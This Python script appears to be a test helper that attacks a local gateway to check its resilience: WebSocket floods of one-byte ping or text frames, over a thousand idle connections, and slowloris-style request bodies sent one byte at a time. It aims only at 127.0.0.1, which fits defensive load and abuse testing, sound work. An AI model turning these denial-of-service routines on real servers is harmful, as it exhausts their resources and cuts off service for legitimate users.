"""A client that costs a gateway more than itself: `misbehaving.py PORT ATTACK`, until it is killed.

It has no key. It stands for a program on another machine, so it runs at the lowest priority.
"""

from __future__ import annotations

import base64
import contextlib
import os
import socket
import sys
import threading
from collections.abc import Callable
from functools import partial

PORT = int(sys.argv[1])
HOST = f"Host: 127.0.0.1:{PORT}\r\n"
PING, TEXT = 9, 1
CONNECTIONS = 1300
BODIES = 300


def connect() -> socket.socket:
    """Return a new connection to the gateway."""
    return socket.create_connection(("127.0.0.1", PORT))


def read_all(connection: socket.socket) -> None:
    """Read until the gateway closes the connection."""
    with contextlib.suppress(OSError):
        while connection.recv(1 << 16):
            pass


def tiny_frames(opcode: int) -> None:
    """Send frames of one byte on a WebSocket as fast as the gateway reads; connect again when it ends."""
    block = bytes((0x80 | opcode, 0x81, *bytes(4), ord("x"))) * 4096
    key = base64.b64encode(os.urandom(16)).decode()
    handshake = (
        f"GET /subscribe HTTP/1.1\r\n{HOST}Upgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n"
    ).encode()
    while True:
        with contextlib.suppress(OSError), connect() as connection:
            connection.sendall(handshake)
            threading.Thread(target=read_all, args=(connection,), daemon=True).start()
            while True:
                connection.sendall(block)


def idle_connections() -> None:
    """Keep many connections open without a request; replace those that the gateway closes."""
    connections = [connect() for _ in range(CONNECTIONS)]
    while True:
        for number, connection in enumerate(connections):
            connection.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                with contextlib.suppress(ConnectionResetError):
                    connection.recv(1024)
                connection.close()
                connections[number] = connect()


def slow_bodies() -> None:
    """Send many bodies at once, each byte by byte."""
    head = (
        f"POST /request HTTP/1.1\r\n{HOST}nnsight-version: 0.8.1\r\nContent-Length: 100000000\r\n"
        "Content-Type: multipart/form-data; boundary=x\r\n\r\n--x\r\n"
        'Content-Disposition: form-data; name="payload"\r\n\r\n'
    ).encode()
    connections: list[socket.socket | None] = [None] * BODIES
    while True:
        for number, connection in enumerate(connections):
            try:
                if connection is None:
                    connections[number] = connection = connect()
                    connection.sendall(head)
                connection.sendall(b"a")
            except OSError:
                connections[number] = None


ATTACKS: dict[str, Callable[[], None]] = {
    "pings": partial(tiny_frames, PING),
    "texts": partial(tiny_frames, TEXT),
    "idle connections": idle_connections,
    "slow bodies": slow_bodies,
}

if __name__ == "__main__":
    os.nice(19)
    ATTACKS[sys.argv[2]]()
